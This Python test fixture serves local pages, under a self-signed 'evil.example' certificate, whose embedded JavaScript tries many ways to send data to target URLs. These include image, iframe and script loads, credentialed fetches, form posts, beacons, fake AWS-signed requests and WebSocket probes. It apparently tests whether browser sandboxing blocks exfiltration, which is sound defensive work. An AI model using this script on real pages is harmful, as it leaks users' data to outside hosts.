"""Web sites for tests in a browser: pages at made-up names, whose scripts attack."""

from __future__ import annotations

import contextlib
import datetime
import ssl
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID

#: Sends a request in every way in which a page can without being let, and awaits the end of each.
#: Targets are ``{url, fields, text}``: fields go into forms, text is what ``fetch`` sends.
ATTACK = """
async function attack(targets) {
  const made = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
  const tries = new Map();
  const ended = (what, element, where) => tries.set(what, new Promise(done => {
    element.onload = element.onerror = () => { tries.delete(what); done(); };
    where.append(element);
  }));
  const fetched = (what, url, options) => {
    const end = () => { tries.delete(what); };
    tries.set(what, fetch(url, options).then(end, end));
  };
  const submitted = (what, url, method, enctype, fields) => {
    const name = "frame" + Math.random();
    const form = made("form", {action: url, method, enctype, target: name});
    for (const [name, value] of Object.entries(fields)) {
      form.append(made("textarea", {name, value}));
    }
    document.body.append(form);
    const frame = made("iframe", {name});
    document.body.append(frame);
    tries.set(what, new Promise(done => {
      frame.onload = () => { tries.delete(what); done(); };
    }));
    form.submit();
  };
  const form = "application/x-www-form-urlencoded";
  for (const {url, fields, text} of targets) {
    const query = new URLSearchParams(fields);
    const call = query.size ? url + (url.includes("?") ? "&" : "?") + query : url;
    for (const referrerPolicy of ["no-referrer", "unsafe-url"]) {
      const image = made("img", {referrerPolicy, src: call});
      ended(`img ${referrerPolicy} ${call}`, image, document.body);
    }
    ended(`iframe ${call}`, made("iframe", {src: call}), document.body);
    ended(`script ${call}`, made("script", {src: call}), document.body);
    ended(`link ${call}`, made("link", {rel: "stylesheet", href: call}), document.head);
    const data = new FormData();
    query.forEach((value, name) => data.set(name, value));
    for (const mode of ["no-cors", "cors"]) {
      const credentials = mode === "cors" ? "include" : "omit";
      fetched(`GET ${mode} ${call}`, call, {mode, credentials});
      for (const [kind, body] of Object.entries({text, query, data})) {
        fetched(`POST ${mode} ${kind} ${url}`, url, {method: "POST", mode, credentials, body});
      }
    }
    for (const enctype of [form, "multipart/form-data", "text/plain"]) {
      submitted(`form ${enctype} ${url}`, url, "POST", enctype, fields);
    }
    submitted(`form GET ${url}`, url, "GET", form, fields);
    navigator.sendBeacon(url, text);
    navigator.sendBeacon(url, query);
    const headers = {"Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": "x.y",
      "Authorization": "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/sqs/aws4_request"};
    for (const method of ["POST", "PUT"]) {
      fetched(`${method} with headers ${url}`, url, {method, headers, body: text});
    }
  }
  await Promise.all(tries.values());
  // A beacon tells nobody of its end; it has gone out before this.
  await Promise.allSettled(targets.map(({url}) => fetch(url, {mode: "no-cors", method: "HEAD"})));
}
function follow(href) {
  const link = Object.assign(document.createElement("a"), {href, referrerPolicy: "no-referrer"});
  document.body.append(link);
  link.click();
}
async function opens(url) {
  return await new Promise(done => {
    const socket = new WebSocket(url);
    socket.onopen = () => { socket.close(); done(true); };
    socket.onerror = () => done(false);
  });
}
"""
PAGE = f"<!doctype html><title>a page</title><body><script>{ATTACK}</script>"


class _Page(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        """Answer any path with the page."""
        body = PAGE.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextlib.contextmanager
def serve_pages(folder: Path) -> Iterator[tuple[int, int]]:
    """Serve the page at ports for HTTP and for HTTPS, whose certificate nobody has signed."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(_certificate(folder / "page.pem"))
    with (
        ThreadingHTTPServer(("127.0.0.1", 0), _Page) as plain,
        ThreadingHTTPServer(("127.0.0.1", 0), _Page) as secret,
    ):
        secret.socket = context.wrap_socket(secret.socket, server_side=True)
        for server in (plain, secret):
            threading.Thread(target=server.serve_forever, daemon=True).start()
        yield plain.server_port, secret.server_port
        for server in (plain, secret):
            server.shutdown()


def _certificate(path: Path) -> Path:
    """Write a key and its certificate into a file."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "evil.example")])
    day = datetime.timedelta(days=1)
    now = datetime.datetime.now(datetime.UTC)
    made = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    signed = made.not_valid_before(now - day).not_valid_after(now + day).sign(key, SHA256())
    pem = Encoding.PEM
    secret = key.private_bytes(pem, PrivateFormat.PKCS8, NoEncryption())
    path.write_bytes(secret + signed.public_bytes(pem))
    return path
